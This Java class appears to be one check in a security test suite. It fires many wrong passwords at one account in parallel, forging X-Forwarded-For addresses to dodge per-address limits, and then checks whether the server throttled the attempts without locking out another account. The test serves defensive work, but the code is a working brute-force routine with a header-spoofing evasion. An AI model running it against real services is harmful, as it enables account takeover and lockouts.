package be.ptr.hostile;

import java.io.IOException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.IntFunction;

/**
 * Wrong passwords of one account, many at once, each from an address of its own if the server believes the header; then the
 * right password of the account that was lent. It leaves the account guessed at waiting for an hour.
 */
public record Guessing(String target, int tries, int atOnce) implements Attack {
    private static final Duration PATIENCE = Duration.ofSeconds(20);
    private static final int MOST_JUDGED = 330;
    private static final int WRONG = 401;
    private static final int OK = 200;

    @Override
    public Finding against(Victim victim) throws Exception {
        List<Integer> crowd = statuses(victim, number -> "203.0." + number / 250 + "." + (1 + number % 250));
        List<Integer> neighbour = statuses(victim, number -> "198.51.100.7");
        long judged = crowd.stream().filter(status -> status == WRONG).count();
        long slipped = neighbour.stream().filter(status -> status == WRONG).count();
        Optional<Integer> owner = victim.account().isEmpty()
                ? Optional.empty()
                : Optional.of(status(victim, victim.account().get(), "198.51.100.7"));
        return new Finding(
                tries + " wrong passwords of " + target + " from as many addresses, and from one, " + atOnce
                        + " at once",
                judged + " and " + slipped + " were judged; the right password of another account: "
                        + owner.map(String::valueOf).orElse("not tried, for no account was lent"),
                judged <= MOST_JUDGED && slipped <= 10 && owner.orElse(OK) == OK);
    }

    private List<Integer> statuses(Victim victim, IntFunction<String> address) throws Exception {
        ExecutorService threads = Executors.newFixedThreadPool(atOnce);
        try {
            List<Callable<Integer>> all = new ArrayList<>();
            for (int number = 0; number < tries; number++) {
                int one = number;
                all.add(() -> status(victim, target + ":wrong-" + one, address.apply(one)));
            }
            List<Integer> statuses = new ArrayList<>();
            for (Future<Integer> answer : threads.invokeAll(all)) {
                statuses.add(answer.get());
            }
            return statuses;
        } finally {
            threads.shutdownNow();
        }
    }

    private static int status(Victim victim, String account, String address) throws IOException, InterruptedException {
        String credentials = Base64.getEncoder().encodeToString(account.getBytes(StandardCharsets.UTF_8));
        HttpRequest request = HttpRequest.newBuilder(victim.at("/api/runs"))
                .timeout(PATIENCE)
                .header("Authorization", "Basic " + credentials)
                .header("X-Forwarded-For", address)
                .build();
        return HttpClient.newHttpClient()
                .send(request, HttpResponse.BodyHandlers.discarding())
                .statusCode();
    }
}
